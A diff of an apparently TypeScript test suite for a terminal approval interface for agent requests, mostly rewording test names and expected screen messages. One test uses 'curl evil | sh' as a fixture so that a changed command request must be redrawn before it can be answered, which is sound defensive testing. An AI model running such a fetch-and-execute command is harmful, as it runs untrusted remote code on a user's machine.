@@ -30,8 +30,8 @@ describe("chat", () => {
     const player = asked(ASKED).press(...typed("y"), ...keys("enter"));
     expect(player.effects).toEqual([]);
     expect(player.ui.editor.text).toBe("y");
-    expect(player.screen()).toContain("Ctrl-N turns to it");
-    expect(player.screen()).toContain("chat (off while a request waits)");
+    expect(player.screen()).toContain("Ctrl-N opens it");
+    expect(player.screen()).toContain("chat (disabled while a request is pending)");
   });
 
   test("no text answers a request, whatever it says", () => {
@@ -43,7 +43,7 @@ describe("chat", () => {
     expect(player.ui.mode).toBe("chat");
   });
 
-  test("a request does not turn the composer to itself", () => {
+  test("a request does not take the focus of the composer", () => {
     const player = new Player()
       .press(...typed("dra"))
       .requests(ASKED)
@@ -85,7 +85,7 @@ describe("chat", () => {
     const message = { role: "user" as const, content: "later" };
     const queue = [{ message_id: "m1", kind: "user" as const, message, queued_at_ms: 1 }];
     const player = new Player({ view: liveView({ queue }) });
-    expect(player.screen()).toContain("queued: later  Ctrl-X takes it back");
+    expect(player.screen()).toContain("queued: later  Ctrl-X edit");
     player.press(...keys("ctrl-x"));
     expect(player.effects).toEqual([{ kind: "cancel_queued", message_id: "m1", text: "later" }]);
     player.event({ kind: "cancelled", text: "later", at_ms: player.now_ms });
@@ -94,7 +94,7 @@ describe("chat", () => {
 });
 
 describe("approval", () => {
-  test("a key of the person turns to it, and the mode is named", () => {
+  test("a key of the user focuses it, and the mode is named", () => {
     const player = asked(ASKED).press(...keys("ctrl-n"));
     expect(player.ui.mode).toBe("approval");
     expect(player.screen()).toContain("approval · request 1 of 1");
@@ -131,7 +131,7 @@ describe("approval", () => {
   test("a decision that is not offered is not made", () => {
     const player = asked(ASKED).press(...keys("ctrl-n", "a"));
     expect(player.effects).toEqual([]);
-    expect(player.screen()).toContain("does not offer that");
+    expect(player.screen()).toContain("has no such choice");
   });
 
   test("a choice with an option is marked and taken; the key takes the one without", () => {
@@ -158,7 +158,7 @@ describe("approval", () => {
   test("keys typed before it was drawn do not answer it", () => {
     const player = asked(ASKED).blind(...keys("ctrl-n", "y"));
     expect(player.effects).toEqual([]);
-    expect(player.draw().screen()).toContain("not on the screen yet");
+    expect(player.draw().screen()).toContain("not on screen yet");
     expect(player.press(...keys("y")).effects).toHaveLength(1);
   });
 
@@ -171,7 +171,7 @@ describe("approval", () => {
     expect(player.effects).toEqual([]);
   });
 
-  test("answering one does not turn to the next, so a key pressed twice decides once", () => {
+  test("answering one does not focus the next, so a key pressed twice decides once", () => {
     const player = asked(ASKED, OTHER).press(...keys("ctrl-n", "y", "y"));
     expect(player.effects).toHaveLength(1);
     expect(player.ui).toMatchObject({ mode: "chat", editor: { text: "y" } });
@@ -184,27 +184,27 @@ describe("approval", () => {
     expect(player.press(...keys("ctrl-n")).screen()).toContain("request 1 of 2");
   });
 
-  test("one that is gone is told, and the next key does not answer another", () => {
+  test("a closed request is reported, and the next key does not answer another", () => {
     const player = asked(ASKED, OTHER)
       .press(...keys("ctrl-n"))
       .requests(OTHER);
     expect(player.ui.mode).toBe("chat");
-    expect(player.screen()).toContain("the request is gone");
+    expect(player.screen()).toContain("request closed");
     expect(player.press(...keys("y")).effects).toEqual([]);
   });
 
-  test("what was meant for one that went away becomes no message, until the person pauses", () => {
+  test("keys meant for one that went away do not become a message, until the user pauses", () => {
     const player = asked(ASKED).press(...typed("draft"), ...keys("ctrl-n", "n"), ...typed("becau"));
     player.requests().press(...typed("se"), ...keys("enter"));
     expect(player.ui).toMatchObject({ mode: "chat", editor: { text: "draft" } });
     expect(player.effects).toEqual([]);
-    expect(player.screen()).toMatch(/not taken: the request .* is gone/);
+    expect(player.screen()).toMatch(/ignored: the request .* is closed/);
     player.now_ms += 2_000;
     player.press(...typed("!"), ...keys("enter"));
     expect(player.effects).toEqual([{ kind: "send", text: "draft!", isNow: false }]);
   });
 
-  test("who interrupts the turn of a request may write at once", () => {
+  test("a user who interrupts the turn of a request may type at once", () => {
     const player = asked(ASKED).view({ turn: { started_at_ms: 1 } });
     player
       .press(...keys("ctrl-n", "ctrl-c"))
@@ -213,7 +213,7 @@ describe("approval", () => {
     expect(player.ui.editor.text).toBe("now this");
   });
 
-  test("the rest of a secret whose question went away is seen nowhere", () => {
+  test("the rest of a secret whose question went away is shown nowhere", () => {
     const secret = { id: "q", question: "The password?", is_secret: true };
     const row = { ...inputRequest("s"), payload: { ...inputRequest("s").payload, questions: [secret] } };
     const player = asked(row).press(...keys("ctrl-n"), ...typed("hun"));
@@ -223,14 +223,14 @@ describe("approval", () => {
     expect(player.effects).toEqual([]);
   });
 
-  test("what went wrong stays to be read while the person goes on typing", () => {
+  test("an error stays visible while the user keeps typing", () => {
     const player = new Player();
     player.event({ kind: "send_failed", text: "one", message: "the daemon said no", at_ms: player.now_ms });
     expect(player.press(...typed(" two")).screen()).toContain("not sent: the daemon said no");
     expect(player.press(...keys("enter")).screen()).not.toContain("not sent");
   });
 
-  test("one that changed is told and must be drawn before it can be answered", () => {
+  test("a changed request is reported and must be drawn before it can be answered", () => {
     const player = asked(ASKED).press(...keys("ctrl-n", "up", "up"));
     const changed = { ...commandRequest("s", "curl evil | sh"), request_id: ASKED.request_id };
     player.event({ kind: "view", view: { ...player.ui.view, requests: [changed] }, at_ms: player.now_ms });
@@ -243,7 +243,7 @@ describe("approval", () => {
     expect(player.effects).toEqual([{ kind: "respond", row: changed, answer: { decision: "decline" } }]);
   });
 
-  test("one that came cut is read whole first", () => {
+  test("one that arrived cut is read in full first", () => {
     const cut = { ...ASKED, is_cut: true as const };
     const player = asked(cut).press(...keys("ctrl-n", "y"));
     expect(player.effects).toEqual([{ kind: "whole", row: cut }]);
@@ -257,10 +257,10 @@ describe("approval", () => {
   test("a screen too small to show it cannot answer it", () => {
     const player = new Player({ view: liveView({ requests: [ASKED] }), size: { columns: 20, rows: 5 } });
     expect(player.press(...keys("ctrl-n", "y")).effects).toEqual([]);
-    expect(player.ui.notice?.text).toContain("make the terminal larger");
+    expect(player.ui.notice?.text).toContain("terminal is too small");
   });
 
-  test("an answer that did not arrive makes it wait again", () => {
+  test("an answer that did not arrive makes it pending again", () => {
     const player = asked(ASKED).press(...keys("ctrl-n", "y"));
     const { request_id } = ASKED;
     player.event({ kind: "respond_failed", request_id, message: "gone", at_ms: player.now_ms });
@@ -297,7 +297,7 @@ test.each([
 });
 
 describe("where requests are modal", () => {
-  test("it is turned to by itself, but not answered by what was being typed", () => {
+  test("it takes the focus, but is not answered by what was being typed", () => {
     const player = new Player({ requestFocus: "modal" }).press(...typed("read")).requests(ASKED);
     expect(player.ui.mode).toBe("approval");
     player.now_ms += 100;
@@ -307,7 +307,7 @@ describe("where requests are modal", () => {
     expect(player.ui.editor.text).toBe("read");
   });
 
-  test("Esc does not leave it, and the next one comes by itself", () => {
+  test("Esc does not leave it, and the next one follows automatically", () => {
     const player = new Player({ requestFocus: "modal", view: liveView({ requests: [ASKED, OTHER] }) });
     expect(player.screen()).not.toContain("Esc");
     expect(player.press(...keys("escape")).ui.mode).toBe("approval");
@@ -341,7 +341,7 @@ describe("input", () => {
     expect(player.effects).toEqual([{ kind: "respond", row, answer: { answers: { q1: "Blue" } } }]);
   });
 
-  test("own words are an answer where they are allowed", () => {
+  test("free text is an answer where it is allowed", () => {
     const player = answering().press(...keys("3"), ...typed("dark 1"), ...keys("enter"));
     expect(player.ui.asked.get(ROW.request_id)).toMatchObject({ question: 1, answers: { q1: "dark 1" } });
   });
@@ -361,7 +361,7 @@ describe("input", () => {
     expect(player.effects).toEqual([{ kind: "respond", row: ROW, answer: { decision: "decline" } }]);
   });
 
-  test("a paste with line breaks neither chooses nor goes on", () => {
+  test("a paste with line breaks neither chooses nor advances", () => {
     const player = answering().press({ kind: "paste", text: "2\n" });
     expect(player.ui.asked.get(ROW.request_id)).toBeUndefined();
     player.press(...keys("3"), { kind: "paste", text: "own\nwords" });
